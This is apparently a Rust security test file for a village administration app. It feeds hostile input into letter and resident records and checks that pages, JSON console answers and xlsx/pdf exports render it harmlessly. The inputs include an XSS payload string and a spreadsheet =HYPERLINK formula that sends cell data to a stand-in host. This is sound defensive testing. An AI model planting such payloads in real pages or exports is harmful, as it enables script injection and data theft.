//! What a laptop stores for others to stumble over: scripts, formulas, values of other types, endless texts.

use std::io::Read as _;

use jemput_domain::letter::short_id;
use serde_json::{Value, json};
use uuid::Uuid;

use super::rogue::{Rogue, waits};
use crate::{
    browser::Browser,
    laptop::hex,
    office::{TestOffice, VILLAGE},
};

const SCRIPT: &str =
    "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><svg/onload=alert(3)>";
const FORMULA: &str = "=HYPERLINK(\"http://jahat.example/?\"&A1)";
const CTI: [u8; 8] = [0xa1, 0xb2, 0xc3, 0xd4, 0xe5, 0xf6, 0x07, 0x18];

/// Every page that a clerk may open.
const PAGES: &[&str] = &[
    "session",
    "residents",
    "residents?q=a",
    "residents?gone=true",
    "letters",
    "letters?q=a",
    "conflicts",
    "conflicts?kind=looks",
    "duplicates",
    "inbox",
    "inbox?decided=true",
    "devices",
    "officers",
    "numbers",
    "book",
    "backup",
];

/// A letter whose every text is the same.
fn letter(text: &str) -> Value {
    json!({
        "number": text, "serial": "001", "series": "surat", "year": 2026, "title": text, "cti": hex(&CTI),
        "state": "issued", "issued_on": "2026-11-25", "valid_until": "2027-05-25", "printed_at": 1_795_600_000_000_i64,
        "manual_reason": text, "void_reason": text, "checked_name": text, "prepared_name": text,
        "snapshot": { "village": { "code": VILLAGE, "name": text }, "resident": { "name": text, "nik": text } },
    })
}

/// A resident whose every text is the same.
fn resident(text: &str) -> Value {
    let fields = [
        "name",
        "nik",
        "birth_place",
        "address",
        "rt",
        "rw",
        "dusun",
        "phone",
        "email",
        "occupation",
        "note",
        "father_name",
        "mother_name",
        "kk",
        "title_before",
        "title_after",
        "nik_temporary",
        "nik_draft",
    ];
    let mut resident = json!({});
    for field in fields {
        resident[field] = json!(text);
    }
    resident
}

fn write(rogue: &mut Rogue, office: &TestOffice, kind: &str, mut fields: Value) -> Uuid {
    let id = Uuid::new_v4();
    fields["scope"] = json!(format!("village:{VILLAGE}"));
    let ack = rogue.write(office, id, kind, &fields);
    assert!(!waits(&ack), "{ack:?}");
    id
}

/// The parts of a zip file, unpacked.
fn parts(zip: &[u8]) -> Vec<(String, String)> {
    let number = |at: usize, bytes: usize| {
        zip[at..at + bytes]
            .iter()
            .rev()
            .fold(0, |number, byte| number << 8 | usize::from(*byte))
    };
    let mut parts = Vec::new();
    // From the directory at the end: sizes in the local heads may be missing.
    let entries = (0..zip.len() - 4).filter(|at| zip[*at..].starts_with(b"PK\x01\x02"));
    for at in entries {
        let name =
            String::from_utf8_lossy(&zip[at + 46..at + 46 + number(at + 28, 2)]).into_owned();
        let (packed, local) = (number(at + 20, 4), number(at + 42, 4));
        let begin = local + 30 + number(local + 26, 2) + number(local + 28, 2);
        let mut text = String::new();
        flate2::read::DeflateDecoder::new(&zip[begin..begin + packed])
            .read_to_string(&mut text)
            .unwrap_or_default();
        parts.push((name, text));
    }
    parts
}

fn book(browser: &Browser, office: &TestOffice, format: &str) -> crate::http::Answer {
    let path = format!("book/file?village={VILLAGE}&series=surat&year=2026&format={format}");
    browser.get(office, &path)
}

#[test]
fn a_script_in_any_field_is_text_on_the_public_pages_and_data_in_the_console() {
    let office = TestOffice::new();
    let browser = Browser::set_up(&office);
    let mut rogue = Rogue::join(&office, VILLAGE, 71);
    write(&mut rogue, &office, "letter", letter(SCRIPT));
    let id = write(&mut rogue, &office, "resident", resident(SCRIPT));
    let page = office.get(&format!("/v/{}", short_id(&hex(&CTI))));
    let text = page.text();
    assert_eq!(page.status, 200, "{text}");
    for raw in ["<script", "<img src=x", "<svg/onload", "\"'>"] {
        assert!(!text.contains(raw), "{raw} in {text}");
    }
    assert!(
        text.contains("&#60;script&#62;") || text.contains("&lt;script&gt;"),
        "{text}"
    );
    for typed in [
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "%22%3E%3Cimg%20src=x%3E",
    ] {
        let text = office.get(&format!("/v/{typed}")).text();
        assert!(
            !text.contains("<script>alert") && !text.contains("<img"),
            "{text}"
        );
    }
    // The console's answers are data, never a page that a browser would run.
    let of_one = format!("residents/{id}");
    for path in PAGES.iter().copied().chain([of_one.as_str()]) {
        let answer = browser.get(&office, path);
        assert_eq!(answer.status, 200, "{path}: {}", answer.text());
        assert_eq!(
            answer.header("content-type"),
            Some("application/json"),
            "{path}"
        );
        assert_eq!(
            answer.header("x-content-type-options"),
            Some("nosniff"),
            "{path}"
        );
    }
}

#[test]
fn a_formula_in_any_field_is_text_in_the_exported_workbook() {
    let office = TestOffice::new();
    let browser = Browser::set_up(&office);
    let mut rogue = Rogue::join(&office, VILLAGE, 72);
    write(&mut rogue, &office, "letter", letter(FORMULA));
    let sheet = book(&browser, &office, "xlsx");
    assert_eq!(
        sheet.status,
        200,
        "{}",
        String::from_utf8_lossy(&sheet.body)
    );
    let parts = parts(&sheet.body);
    let texts: String = parts.iter().map(|(_, text)| text.as_str()).collect();
    assert!(
        texts.contains("HYPERLINK"),
        "the text itself is there: {texts}"
    );
    for (name, text) in &parts {
        for formula in ["<f>", "<f ", "<hyperlink", "externalLink", "ddeLink"] {
            assert!(!text.contains(formula), "{formula} in {name}");
        }
    }
}

#[test]
fn an_endless_text_and_signs_that_no_typeface_has_stop_no_page_and_no_export() {
    let office = TestOffice::new();
    let browser = Browser::set_up(&office);
    let mut rogue = Rogue::join(&office, VILLAGE, 73);
    let endless = "x".repeat(40_000);
    for field in [
        "number",
        "title",
        "void_reason",
        "manual_reason",
        "checked_name",
    ] {
        let mut one = letter("a");
        one[field] = json!(endless);
        one["serial"] = json!(format!("{:03}", field.len()));
        write(&mut rogue, &office, "letter", one);
    }
    let mut one = letter("a");
    one["snapshot"]["resident"]["name"] = json!(endless);
    one["serial"] = json!("099");
    write(&mut rogue, &office, "letter", one);
    let odd = "\u{0}\u{1}\u{202e}\u{feff}\u{1f4a9}\u{fdd0}\n\r\t".repeat(20);
    write(&mut rogue, &office, "letter", letter(&odd));
    let residents = [odd, "x".repeat(12_000), " ".repeat(300)]
        .map(|text| write(&mut rogue, &office, "resident", resident(&text)));
    for format in ["xlsx", "pdf"] {
        let answer = book(&browser, &office, format);
        assert_eq!(
            answer.status,
            200,
            "{format}: {}",
            String::from_utf8_lossy(&answer.body)
        );
    }
    let each = residents.map(|id| format!("residents/{id}"));
    for path in PAGES.iter().copied().chain(each.iter().map(String::as_str)) {
        let answer = browser.get(&office, path);
        assert_eq!(answer.status, 200, "{path}: {}", answer.text());
    }
    let status = office.get(&format!("/v/{}", short_id(&hex(&CTI)))).status;
    assert_eq!(status, 200);
}

#[test]
fn a_value_of_another_type_in_any_field_stops_no_page() {
    let odd = [
        json!(null),
        json!(true),
        json!(-1),
        json!(1.5e300),
        json!(u64::MAX),
        json!(""),
        json!("x"),
        json!([]),
        json!(["a", 1, null]),
        json!({}),
        json!({ "code": 1, "name": [], "resident": "x" }),
    ];
    let kinds: [(&str, Value); 6] = [
        ("resident", resident("a")),
        ("letter", letter("a")),
        (
            "household",
            json!({ "kk": "1", "head": "x", "address": "a", "members": [] }),
        ),
        (
            "attachment",
            json!({ "sha256": "x", "bytes": 1, "name": "a", "media": "b", "owner": "c", "owner_kind": "d" }),
        ),
        (
            "request",
            json!({ "service": "x", "resident": "y", "state": "draft", "answers": {}, "approval": {}, "by": "z" }),
        ),
        (
            "burned_numbers",
            json!({ "series": "surat", "year": 2026, "from": 1, "to": 2, "village": VILLAGE, "reason": "x" }),
        ),
    ];
    for value in odd {
        let office = TestOffice::new();
        let mut browser = Browser::set_up(&office);
        let mut rogue = Rogue::join(&office, VILLAGE, 74);
        let mut written = Vec::new();
        for (kind, sample) in &kinds {
            let mut all = json!({});
            for (field, _) in sample.as_object().unwrap() {
                let mut one = sample.clone();
                one[field] = value.clone();
                written.push((write(&mut rogue, &office, kind, one), *kind));
                all[field] = value.clone();
            }
            written.push((write(&mut rogue, &office, kind, all), *kind));
        }
        for path in PAGES {
            let answer = browser.get(&office, path);
            assert_eq!(answer.status, 200, "{path} with {value}: {}", answer.text());
        }
        for (id, kind) in written.iter().filter(|(_, kind)| *kind == "resident") {
            for path in [format!("residents/{id}"), format!("conflicts/{id}")] {
                let answer = browser.get(&office, &path);
                assert!(
                    answer.status < 500,
                    "{path} of {kind} with {value}: {}",
                    answer.text()
                );
            }
        }
        for format in ["xlsx", "pdf"] {
            let answer = book(&browser, &office, format);
            assert!(answer.status < 500, "{format} with {value}");
        }
        assert_eq!(office.get("/health").status, 200);
        browser.session(&office);
    }
}
